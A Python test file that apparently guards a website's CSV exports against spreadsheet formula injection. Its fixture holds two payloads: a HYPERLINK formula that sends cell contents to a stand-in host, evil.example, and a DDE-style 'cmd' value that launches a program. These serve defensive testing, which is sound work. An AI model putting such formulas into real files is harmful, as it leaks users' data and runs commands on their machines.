"""One guard for every CSV file the site writes: no cell runs as a formula when the file
is opened in a spreadsheet (LibreOffice Calc here, as tests/test_inquiry_export.py does
for the inquiry export), and every cell shows what was typed."""

import ast
import csv
import io
from pathlib import Path

import pytest

from facility.models import Center

from .test_inquiry_export import as_spreadsheet, shown

ROOT = Path(__file__).resolve().parent.parent
PACKAGES = ["recovery_site", "plumbing", "facility", "articles", "inquiries", "website"]
GUARD = Path("plumbing/spreadsheets.py")

# What an Editor typed into a center's fields (the review's).
TYPED = {
    "street": '=HYPERLINK("https://evil.example/?d="&A3,"Get directions")',
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+1 419 555 0142",
}


def test_every_csv_writer_is_the_guarded_one():
    writers = []
    for package in PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                if (
                    isinstance(node, ast.Attribute)
                    and node.attr in ("writer", "DictWriter")
                    and isinstance(node.value, ast.Name)
                    and node.value.id == "csv"
                ):
                    writers.append(path.relative_to(ROOT))
    assert writers == [GUARD]


@pytest.mark.django_db
@pytest.mark.spreadsheet
def test_locations_csv_opens_in_a_spreadsheet_as_typed_with_no_formula(client, facility, tmp_path):
    Center.objects.filter(pk=facility.main_center.pk).update(**TYPED)

    response = client.get("/locations.csv")
    header = next(csv.reader(io.StringIO(response.content.decode())))
    rows = as_spreadsheet(response.content, tmp_path)

    cells = [cell for row in rows for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    row = next(r for r in rows[1:] if shown(r[header.index("street")].value) == TYPED["street"])
    for column, value in TYPED.items():
        assert shown(row[header.index(column)].value) == value
    # Coordinates stay numbers for the locators that read them.
    assert row[header.index("latitude")].data_type == "n"
    assert row[header.index("longitude")].data_type == "n"
